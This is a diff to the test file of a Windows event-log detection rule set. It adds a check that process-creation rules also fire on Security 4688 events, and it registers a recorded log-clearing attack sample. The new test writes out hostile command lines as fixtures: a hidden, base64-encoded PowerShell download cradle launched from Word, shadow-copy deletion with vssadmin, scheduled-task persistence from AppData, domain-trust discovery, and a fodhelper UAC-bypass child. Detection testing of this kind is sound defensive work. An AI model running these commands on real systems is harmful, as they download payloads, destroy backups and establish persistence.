@@ -350,10 +350,11 @@ describe('samples/quickstart: the WS-FIN-07 / SRV-DB-01 intrusion', () => {
     expect(reported.some((r) => r.group?.['IpAddress'] === '10.20.5.40')).toBe(false);
   });
 
-  // Known failure, not in rules/: event 104 carries `Channel` in UserData as well as in System, the readers
-  // flatten both into a list (`['System','System']`), and the rule set's Channel index only routes scalar
-  // channels, so no `service: system` rule (ours or SigmaHQ's) sees event 104. Real EVTX does the same
-  // (EVTX-ATTACK-SAMPLES DE_104_system_log_cleared.evtx). Flip to `it` when the reader or index is fixed.
+  // Known failure, not in rules/: event 104 carries `Channel` in UserData as well as in System. The EVTX reader
+  // keeps the second as `UserData.Channel`, but the JSON reader (src/ingest/json/windows.ts) folds both into
+  // `Channel: ['System', 'System']`, which the rule set's Channel index does not route, so no
+  // `service: system` rule sees a JSON-exported event 104. Flip to `it` when the JSON reader does what the
+  // EVTX reader does (the same event as .evtx is checked under "real attack recordings").
   it.fails('raises "Windows Event Log Cleared" on the System log clearing (event 104)', () => {
     expect(byRule(hits)[RULE.eventlogCleared]).toEqual(['SRV-DB-01/104/']);
   });
@@ -469,6 +470,50 @@ describe('rules/: edge cases', () => {
     expect(fires(access('C:\\Windows\\System32\\wininit.exe', '0x1410'), RULE.lsass)).toBe(false);
   });
 
+  it('process-creation rules also run on Security 4688 (hosts without Sysmon)', () => {
+    const p4688 = (image: string, cmd: string, parent: string): Event =>
+      winEvent('Security', 4688, {
+        NewProcessName: image,
+        CommandLine: cmd,
+        ParentProcessName: parent,
+        SubjectUserName: 'a.lindqvist',
+        MandatoryLabel: 'S-1-16-8192',
+      });
+    const cmd = 'C:\\Windows\\System32\\cmd.exe';
+    const b64 = Buffer.from(
+      "(New-Object Net.WebClient).DownloadFile('http://x/a','a.exe')",
+      'utf16le',
+    ).toString('base64');
+    const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
+    const ps = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+    const ids = (e: Event): string[] =>
+      d.ruleset
+        .match(e)
+        .map((h) => h.rule.id)
+        .sort();
+    expect(ids(p4688(ps, `powershell -w hidden -enc ${b64}`, word))).toEqual(
+      [RULE.officeChild, RULE.encodedCradle].sort(),
+    );
+    expect(ids(p4688('C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts', cmd))).toEqual([
+      RULE.discovery,
+    ]);
+    expect(
+      ids(
+        p4688(
+          'C:\\Windows\\System32\\schtasks.exe',
+          'schtasks /create /tn u /tr %APPDATA%\\u.exe',
+          cmd,
+        ),
+      ),
+    ).toEqual([RULE.schtasksCreate]);
+    expect(
+      ids(p4688('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet', cmd)),
+    ).toEqual([RULE.inhibitRecovery]);
+    expect(ids(p4688(cmd, 'cmd.exe /c whoami', 'C:\\Windows\\System32\\fodhelper.exe'))).toEqual([
+      RULE.uacChild,
+    ]);
+  });
+
   it('ransomware recovery inhibition and privileged group changes', () => {
     const proc = (image: string, cmd: string): Event =>
       winEvent(SYSMON, 1, { Image: image, CommandLine: cmd });
@@ -552,6 +597,7 @@ describe('real attack recordings (../shared/data)', () => {
     ['Mimikatz sekurlsa::logonpasswords', 'evtx/EVTX-ATTACK-SAMPLES/Credential Access/sysmon_10_lsass_mimikatz_sekurlsa_logonpasswords.evtx', 'lsass'],
     ['eventvwr UAC bypass', 'evtx/EVTX-ATTACK-SAMPLES/Privilege Escalation/Sysmon_13_1_UAC_Bypass_EventVwrBypass.evtx', 'uacRegistry'],
     ['Security log cleared', 'evtx/EVTX-ATTACK-SAMPLES/Defense Evasion/DE_1102_security_log_cleared.evtx', 'securityCleared'],
+    ['System log cleared', 'evtx/EVTX-ATTACK-SAMPLES/Defense Evasion/DE_104_system_log_cleared.evtx', 'eventlogCleared'],
     ['Metasploit psexec with PowerShell', 'evtx/DeepBlueCLI/evtx/metasploit-psexec-powershell-target-system.evtx', 'serviceInstall'],
     ['Guest added to Administrators', 'evtx/EVTX-ATTACK-SAMPLES/Persistence/Network_Service_Guest_added_to_admins_4732.evtx', 'privGroup'],
     ['scheduled task running from AppData', 'evtx/EVTX-ATTACK-SAMPLES/Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx', 'schtasksCreate'],
